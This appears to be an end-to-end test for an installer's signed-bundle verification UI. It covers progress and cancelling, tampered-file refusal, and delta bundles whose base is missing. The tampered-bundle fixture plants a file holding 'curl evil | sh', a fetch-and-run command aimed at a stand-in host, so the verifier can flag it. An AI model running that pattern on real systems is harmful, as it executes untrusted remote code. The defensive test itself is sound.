import { createHash, randomBytes } from 'node:crypto';
import { mkdir, mkdtemp, open, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { generateSigningKey } from '../../electron/node/bundles/bundle-signing';
import { addOperatorKey } from '../../electron/node/bundles/trusted-publishers';
import { writeSignedManifest } from '../../electron/node/bundles/write-manifest';
import { repoRoot, startServe, type ServeProcess } from '../support/airspray-serve';
import { testManifest, writeSignedKubesprayBundle } from '../support/bundle-fixtures';
import { launchChromium } from '../support/chromium';

const screenshotDir = join(repoRoot, 'test-results', 'screenshots');
const gib = 1024 * 1024 * 1024;
let serve: ServeProcess;
let browser: Browser;
let largeBundle: string;
let tamperedBundle: string;

beforeAll(async () => {
  const root = await mkdtemp(join(tmpdir(), 'airspray-e2e-bundle-'));
  const dataDir = join(root, 'data');
  const bundles = join(root, 'bundles');
  const key = generateSigningKey();
  await addOperatorKey(dataDir, {
    name: 'E2E publisher',
    publicKey: key.publicKeyPem,
    confirmedFingerprint: key.fingerprint,
  });

  // Four 1 GiB images of zeros, sparse on disk, so the check runs long enough to watch (and cancel) it.
  largeBundle = join(bundles, 'kubespray-2.23.3-large');
  const blobs = join(largeBundle, 'images', 'docker', 'registry', 'v2', 'blobs');
  await mkdir(blobs, { recursive: true });
  const zerosSha = createHash('sha256');
  const mib = Buffer.alloc(1024 * 1024);
  for (let index = 0; index < 1024; index += 1) zerosSha.update(mib);
  const sha256 = zerosSha.digest('hex');
  const known = new Map<string, { sha256: string }>();
  for (let index = 0; index < 4; index += 1) {
    const file = await open(join(blobs, `layer-${index}`), 'w');
    await file.truncate(gib);
    await file.close();
    known.set(`images/docker/registry/v2/blobs/layer-${index}`, { sha256 });
  }
  await writeSignedKubesprayBundle(largeBundle, 'ks-2.23.3-large', key, known);

  tamperedBundle = join(bundles, 'kubespray-2.23.3-tampered');
  await mkdir(join(tamperedBundle, 'files', 'dl.k8s.io'), { recursive: true });
  await writeFile(join(tamperedBundle, 'files', 'dl.k8s.io', 'kubeadm'), randomBytes(4096));
  await writeSignedKubesprayBundle(tamperedBundle, 'ks-2.23.3-tampered', key);
  await writeFile(join(tamperedBundle, 'files', 'dl.k8s.io', 'kubeadm'), randomBytes(4096));
  await writeFile(join(tamperedBundle, 'files', 'planted.sh'), 'curl evil | sh\n');

  // A delta whose base is not on the stick.
  const delta = join(bundles, 'kubespray-2.23.4-delta');
  await mkdir(join(delta, 'kubespray'), { recursive: true });
  await writeFile(join(delta, 'kubespray', 'cluster.yml'), '- import_playbook: playbooks/cluster.yml\n');
  const base = { bundleId: 'ks-2.23.3-gone', manifestSha256: 'a'.repeat(64), files: [] };
  const deltaFields = { bundleId: 'ks-2.23.4-delta', formatVersion: 3 as const, base };
  await writeSignedManifest(delta, await testManifest(delta, deltaFields), key.privateKeyPem);

  await mkdir(screenshotDir, { recursive: true });
  serve = await startServe(['--data-dir', dataDir, '--bundles-dir', bundles]);
  browser = await launchChromium();
}, 120_000);

afterAll(async () => {
  await browser?.close();
  await serve?.stop();
});

async function openBundleStep(): Promise<Page> {
  const context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
  const page = await context.newPage();
  await page.goto(serve.url);
  await expect
    .poll(() => page.getByRole('list', { name: 'Bundles found' }).textContent())
    .toContain('ks-2.23.3-tampered');
  return page;
}

describe('Bundle step verification in Debian Chromium against the real server', () => {
  it('shows progress with bytes, rate and time left, cancels, then verifies in full', async () => {
    const page = await openBundleStep();
    const panel = page.getByRole('region', { name: 'Verification of kubespray-2.23.3-large' });
    await panel.getByRole('button', { name: 'Verify', exact: true }).click();
    const bar = panel.getByRole('progressbar', { name: 'Verifying kubespray-2.23.3-large' });
    // Some bytes hashed, however few: a loaded machine hashes far less than a gigabyte in the first seconds.
    await expect.poll(async () => Number(await bar.getAttribute('value')), { timeout: 60_000 }).toBeGreaterThan(0);
    await expect
      .poll(() => panel.getByRole('status').textContent(), { timeout: 60_000 })
      .toMatch(/\d[\d.]* (B|kB|MB|GB) of 4\.29 GB · .+\/s · /);
    await panel.evaluate((element) => element.scrollIntoView({ block: 'center' }));
    await page.screenshot({ path: join(screenshotDir, 'bundle-verify-progress.png') });

    await panel.getByRole('button', { name: 'Cancel' }).click();
    await expect.poll(() => bar.count()).toBe(0);
    expect(await panel.textContent()).not.toContain('Verified');

    await panel.getByRole('button', { name: 'Verify', exact: true }).click();
    // 4 GiB hashed: seconds on an idle machine, minutes on a busy one (805 MB in 5 minutes at a load of 12).
    await expect
      .poll(() => panel.textContent(), { timeout: 840_000 })
      .toContain('Verified: every file matches the signed manifest');
    expect(await panel.textContent()).toContain('E2E publisher');
    expect(await page.getByRole('listitem').filter({ hasText: 'ks-2.23.3-large' }).textContent()).toContain('Verified');
    await panel.scrollIntoViewIfNeeded();
    await page.screenshot({ path: join(screenshotDir, 'bundle-verified.png') });
    await page.context().close();
  }, 900_000);

  it('refuses a tampered bundle naming each file, and remembers results across a reload', async () => {
    const page = await openBundleStep();
    const panel = page.getByRole('region', { name: 'Verification of kubespray-2.23.3-tampered' });
    await panel.getByRole('button', { name: 'Verify', exact: true }).click();
    const refusals = panel.getByRole('list', { name: 'Refusals' });
    await expect.poll(() => refusals.textContent()).toContain('files/dl.k8s.io/kubeadm');
    expect(await refusals.textContent()).toContain('Not in the manifest');
    expect(await refusals.textContent()).toContain('files/planted.sh');
    await panel.scrollIntoViewIfNeeded();
    await page.screenshot({ path: join(screenshotDir, 'bundle-refused.png') });

    await page.reload();
    const again = page.getByRole('region', { name: 'Verification of kubespray-2.23.3-large' });
    await expect.poll(() => again.textContent()).toContain('remembered: nothing changed since');
    await page.context().close();
  });

  it('names the base a delta needs, and refuses the delta without that base beside it', async () => {
    const page = await openBundleStep();
    const card = page.getByRole('listitem').filter({ hasText: 'kubespray-2.23.4-delta' });
    expect(await card.textContent()).toContain('Delta of ks-2.23.3-gone');
    const panel = page.getByRole('region', { name: 'Verification of kubespray-2.23.4-delta' });
    await panel.getByRole('button', { name: 'Verify', exact: true }).click();
    const refusals = panel.getByRole('list', { name: 'Refusals' });
    await expect
      .poll(() => refusals.textContent())
      .toContain('This is a delta of ks-2.23.3-gone, which is not beside it');
    expect(await refusals.textContent()).toContain('Base bundle');
    await page.context().close();
  });
});
